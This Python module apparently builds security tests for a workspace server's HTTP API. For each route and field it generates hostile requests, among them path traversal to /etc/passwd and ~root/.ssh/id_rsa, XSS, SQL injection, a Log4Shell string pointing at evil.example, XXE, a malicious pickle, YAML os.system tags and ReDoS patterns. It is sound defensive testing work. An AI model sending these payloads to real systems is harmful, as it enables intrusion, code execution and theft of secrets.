"""Requests that mean harm: made for every field of every route in the OpenAPI document, and particular ones."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SECRET = "what-nobody-may-read"
"""Content of every file that no answer may hold."""
JSON = (("Content-Type", "application/json"),)
BYTES = (("Content-Type", "application/octet-stream"),)

PATHS = {"images", "labels", "classes", "lists", "path", "root", "weights", "file", "folder", "files"}
"""Fields of bodies and queries that hold paths of this machine: each is sent every one of `evil_paths`."""

PREFIXED = {"image": "path:"}
"""Fields that hold a path behind a word, or something else."""

NAMED = {"dataset", "model", "models"}
"""Fields of bodies that name things in the workspace: each is sent every one of `EVIL_NAMES`."""

EXPERIMENTS = {"experiment"}
"""Fields of bodies that hold a whole plan: see `evil_experiments`."""

PLAIN = {
    *("ignore", "keep", "remap", "rename", "merge", "drop", "recolor", "split", "group_by", "allow", "tags", "note"),
    *("search", "state", "dataset", "group", "tag", "sort", "class", "problem", "v", "view", "head"),
    *("keys", "kind", "licence", "names"),
}
"""Fields of bodies and queries that are words, and are never opened as files."""

EVIL_NAMES = (
    "..",
    ".",
    ".hidden",
    "...",
    "~",
    "-rf",
    "*",
    "a b",
    "con:",
    "C:\\windows",
    "..\\..\\windows",
    "streets\0",
    "streets\n",
    "streets\r\nX-Evil: 1",
    "streets ",
    "x" * 101,
    "x" * 20_000,
    "\u202egnp.exe",
    "\uff0e\uff0e",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "' OR '1'='1",
    "'; DROP TABLE job; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "%2e%2e",
    "%00",
    "../../../etc/passwd",
    "streets/../../../../etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
)
_EVIL_NAMES = {repr(name[:40]): name for name in EVIL_NAMES}
EVIL_NUMBERS = ("-1", "0x1", "1e9", "9" * 30, "1.5", "NaN", "one", "1;2", "1'--", "\u0661x", "1\0")


@dataclass(frozen=True)
class Ground:
    """What is attacked.

    Args:
        document: OpenAPI.
        place: a folder with `home` (the workspace), `open` (an allowed root) and `secret` (which is none).
        examples: parameter of a path, alone or after the path's first word ("runs name") → what exists.
        bodies: "POST /api/v1/…" → a good document, for every operation with a field that holds paths; with the field
            behind it → one that has that field.
    """

    document: dict[str, Any]
    place: Path
    examples: dict[str, str]
    bodies: dict[str, dict[str, Any]]

    def example(self, path: str, parameter: str) -> str:
        """A value that exists; nothing where `examples` needs another line."""
        word = path.removeprefix("/api/v1/").split("/")[0]
        return self.examples.get(f"{word} {parameter}") or self.examples.get(parameter, "")

    def good(self, method: str, path: str, field: str, operation: dict[str, Any]) -> Any:
        """A good document for an operation, with a field if it has a place in a document of its own."""
        known = self.bodies.get(f"{method} {path} {field}") or self.bodies.get(f"{method} {path}")
        return known or example_body(operation, self.document)

    def filled(self, path: str, operation: dict[str, Any], **changes: str) -> str:
        """A path with what exists, or with something else."""
        for name, _ in parameters(operation, "path"):
            path = path.replace(f"{{{name}}}", changes[name] if name in changes else self.example(path, name) or "none")
        return path


@dataclass(frozen=True)
class Hostile:
    """A request that must be refused.

    Args:
        name: for people. path: after percent-decoding.
    """

    name: str
    path: str
    method: str = "GET"
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""


def operations(document: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Method, path and description of everything that can be asked."""
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            yield method.upper(), path, operation


def parameters(operation: dict[str, Any], place: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Name and schema of the parameters in the path or the query."""
    for found in operation.get("parameters", ()):
        if found["in"] == place:
            yield found["name"], found["schema"]


def text_fields(
    schema: dict[str, Any], document: dict[str, Any], name: str = "", *, patterned: bool = False
) -> set[str]:
    """Names of the fields of a schema that take any text, at any depth, or of those that take text of a pattern."""
    if name in EXPERIMENTS:  # what it holds is attacked as a plan
        return set() if patterned else {name}
    if "$ref" in schema:
        kind = schema["$ref"].rpartition("/")[2]
        return _fields_of(kind, document, patterned)
    if "enum" in schema or "const" in schema or schema.get("format") == "binary":
        return set()
    found = {name} if schema.get("type") == "string" and patterned == ("pattern" in schema) else set()
    for part in (*schema.get("anyOf", ()), *schema.get("oneOf", ()), *schema.get("allOf", ())):
        found |= {field or name for field in text_fields(part, document, name, patterned=patterned)}
    for inner in (schema.get("items"), schema.get("additionalProperties"), *schema.get("prefixItems", ())):
        if isinstance(inner, dict):
            found |= text_fields(inner, document, name, patterned=patterned)
        elif inner is True and not patterned:
            found.add(name)
    for field, inner in schema.get("properties", {}).items():
        found |= text_fields(inner, document, field, patterned=patterned)
    return found


_known: dict[tuple[str, bool], set[str]] = {}


def _fields_of(kind: str, document: dict[str, Any], patterned: bool) -> set[str]:
    if (kind, patterned) not in _known:
        _known[kind, patterned] = set()  # of one that holds itself
        _known[kind, patterned] = text_fields(document["components"]["schemas"][kind], document, patterned=patterned)
    return _known[kind, patterned]


def json_schema(operation: dict[str, Any]) -> dict[str, Any] | None:
    """The schema of the document that an operation takes."""
    found: dict[str, Any] | None = (
        operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
    )
    return found


def example_body(operation: dict[str, Any], document: dict[str, Any]) -> Any:
    """The example that the OpenAPI document has for an operation's document."""
    schema = json_schema(operation) or {}
    for part in (schema, *schema.get("anyOf", ())):
        if "$ref" in part:
            return document["components"]["schemas"][part["$ref"].rpartition("/")[2]].get("example", {})
    return schema.get("example", {})


def evil_values(ground: Ground) -> Iterator[Hostile]:
    """Every path parameter of every operation, with everything that is none."""
    for method, path, operation in operations(ground.document):
        for name, schema in parameters(operation, "path"):
            for value in EVIL_NUMBERS if schema.get("type") == "integer" else EVIL_NAMES:
                filled = ground.filled(path, operation, **{name: value})
                yield Hostile(f"{method} {path} {name}={value[:40]!r}", filled, method, headers=JSON, body=b"{}")


def evil_bodies(ground: Ground) -> Iterator[Hostile]:
    """Every operation that takes a document, with what is none or not its kind."""
    bodies = {
        "nothing": b"",
        "null": b"null",
        "a list": b"[]",
        "a list of lists": b"[[[]]]",
        "a word": b'"streets"',
        "a number": b"1",
        "half": b'{"images": ',
        "no text": b"\xff\xfe\x00",
        "deep": b"[" * 100_000,
        "deep objects": b'{"a":' * 50_000,
        "many digits": b'{"seed": ' + b"9" * 10_000 + b"}",
        "a pickle": b"cos\nsystem\n(S'true'\ntR.",
        "a document of another kind": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "another field": b'{"__class__": "os.system", "constructor": {"prototype": {}}}',
    }
    for method, path, operation in operations(ground.document):
        for name, body in bodies.items() if json_schema(operation) else ():
            yield Hostile(f"{method} {path}: {name}", ground.filled(path, operation), method, headers=JSON, body=body)


def evil_paths(place: Path) -> dict[str, str]:
    """Paths that may not be used; `place` is as the fixture makes it."""
    return {
        "outside": f"{place}/secret",
        "a file outside": f"{place}/secret/key.txt",
        "nothing outside": f"{place}/secret/not-there",
        "upwards": f"{place}/open/../secret/key.txt",
        "upwards through nothing": f"{place}/open/not-there/../../secret",
        "a link outwards": f"{place}/open/away",
        "a file through a link": f"{place}/open/away/key.txt",
        "a hidden folder": f"{place}/open/.hidden",
        "a hidden file": f"{place}/open/.hidden/key.txt",
        "the server's secret": f"{place}/home/workbench/secret",
        "the server's database": f"{place}/home/workbench.sqlite",
        "a pipe": f"{place}/open/pipe",
        "nothing": f"{place}/open/not-there",
        "the top": "/",
        "accounts": "/etc/passwd",
        "the environment": "/proc/self/environ",
        "a device": "/dev/zero",
        "the program's own files": "/proc/self/cwd",
        "relative": "open",
        "relative upwards": "../secret/key.txt",
        "another person's": "~root/.ssh/id_rsa",
        "an address": "file:///etc/passwd",
        "an address elsewhere": "http://127.0.0.1:9/key",
        "another system's": "C:\\windows\\win.ini",
        "a share": "\\\\evil.example\\share",
        "a zero byte": f"{place}/open\0/../secret/key.txt",
        "lines": f"{place}/open\nx",
        "no text": f"{place}/open/\ud800",
        "long": f"{place}/open/" + "x" * 300,
        "deep": f"{place}/open" + "/x" * 2500,
        "markup": "<img src=x onerror=alert(1)>",
        "a command": "$(touch /tmp/evil)",
    }


def evil_fields(ground: Ground) -> Iterator[Hostile]:
    """Every field that holds a path or a name, in bodies and queries, with all that may not be used."""
    for method, path, operation in operations(ground.document):
        filled = ground.filled(path, operation)
        for field, schema in parameters(operation, "query"):
            patterned = field in text_fields(schema, ground.document, field, patterned=True)
            values = _EVIL_NAMES if patterned else _evil_for(field, ground.place) if field not in NAMED else {}
            for name, value in values.items():
                query = f"{field}=" + "".join(f"%{byte:02x}" for byte in value.encode("utf-8", "surrogatepass"))
                yield Hostile(f"{method} {path}?{field}: {name}", filled, method, query)
        for field in attacked_fields(ground.document, operation):
            good = ground.good(method, path, field, operation)
            for name, value in (_evil_for(field, ground.place) or _EVIL_NAMES).items():
                body = json.dumps(with_field(good, field, value)).encode()
                yield Hostile(f"{method} {path} {field}: {name}", filled, method, headers=JSON, body=body)


def _evil_for(field: str, place: Path) -> dict[str, str]:
    """What a field is sent; nothing where it is a word."""
    if field in PATHS:
        return evil_paths(place)
    if field in NAMED:
        return _EVIL_NAMES
    if field in PREFIXED:
        others = (
            "upload:../../secret/key.txt",
            "dataset:../../secret:key",
            "dataset:streets:../../key",
            "shapes:x",
            "",
        )
        found = {name: PREFIXED[field] + value for name, value in evil_paths(place).items()}
        return found | evil_paths(place) | {repr(other): other for other in others}
    return {}


def attacked_fields(document: dict[str, Any], operation: dict[str, Any]) -> list[str]:
    """Fields of an operation's document that hold paths or names; those with a pattern are names."""
    schema = json_schema(operation)
    if not schema:
        return []
    told = text_fields(schema, document) & (PATHS | NAMED | set(PREFIXED))
    return sorted(told | text_fields(schema, document, patterned=True))


def with_field(good: Any, field: str, value: str) -> Any:
    """A document with a field changed wherever it stands in it; at the top where it stands nowhere."""
    if not isinstance(good, dict):
        return good
    if not _holds(good, field):
        return {**good, field: value}
    made = {}
    for name, inner in good.items():
        if name != field:
            made[name] = with_field(inner, field, value) if _holds(inner, field) else inner
        elif isinstance(inner, dict):
            made[name] = dict.fromkeys(inner, value)
        else:
            made[name] = [value] if isinstance(inner, list) else value
    return made


def _holds(document: Any, field: str) -> bool:
    return isinstance(document, dict) and (
        field in document or any(_holds(inner, field) for inner in document.values())
    )


def evil_experiments(ground: Ground) -> Iterator[Hostile]:
    """Every operation that takes a plan, with plans that name what they may not, or are made to do harm."""
    place = ground.place
    paths = {name: value for name, value in evil_paths(place).items() if "/" in value}
    fields: dict[str, dict[str, Any]] = {
        "dataset": paths | {"files outside": f"{place}/open/evil/dataset.yaml", "upwards": "../secret", "nothing": ""},
        "weights": paths | {"a pickle": f"{place}/open/evil/evil.pth", "no weights": f"{place}/open/evil/evil.bin"},
        "network": {name: f"{value}.py:build" for name, value in paths.items()}
        | {"code": f"{place}/open/evil/evil.py:build", "code of the program": "os.py:system", "markup": "<script>"},
        "group": {"upwards": "../../evil", "a path": "/tmp/evil", "markup": "<img>", "long": "x" * 300, "hidden": ".x"},
        "group_by": {"for ever": "(a+)+$", "half": "(", "long": "x" * 5000, "references": r"(a*)*\\1"},
        "epochs": {"endless": 10**30, "none": -1, "words": "one", "no number": float("nan")},
        "crop": {"huge": [10**8, 10**8], "negative": [-1, -1], "words": "a"},
        "batch_size": {"endless": 10**12, "zero": 0},
        "heads": {"markup": "<script>", "a list": [1, 2]},
        "workers": {"many": 10**10, "negative": -1},
        "loggers": {"unknown": ["evil"], "words": "evil"},
        "unknown_field": {"words": "x"},
    }
    texts = {
        "objects": "!!python/object/apply:os.system ['touch /tmp/evil']",
        "a name": "dataset: !!python/name:os.system",
        "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\ndataset: [*b,*b,*b,*b,*b,*b]",
        "itself": "dataset: &a [*a]",
        "deep": "dataset: " + "[" * 5000,
        "deep blocks": "".join(f"{' ' * level}a:\n" for level in range(400)),
        "two documents": "dataset: streets\n---\ndataset: streets",
        "long": "dataset: " + "x" * 200_000,
        "no text": "\x00\x01",
        "a list": "- streets",
        "a word": "streets",
        "nothing": "",
        "merged": "<<: {dataset: ../secret}",
    }
    for method, path, operation in operations(ground.document):
        schema = json_schema(operation)
        if not schema or not text_fields(schema, ground.document) & EXPERIMENTS:
            continue
        filled, good = ground.filled(path, operation), ground.bodies.get(f"{method} {path}", {"experiment": {}})
        for field, values in fields.items():
            for name, value in values.items():
                body = json.dumps({**good, "experiment": {**good["experiment"], field: value}}).encode()
                yield Hostile(f"{method} {path} {field}: {name}", filled, method, headers=JSON, body=body)
        for name, text in texts.items():
            body = json.dumps({**good, "experiment": text}).encode()
            yield Hostile(f"{method} {path} as text: {name}", filled, method, headers=JSON, body=body)
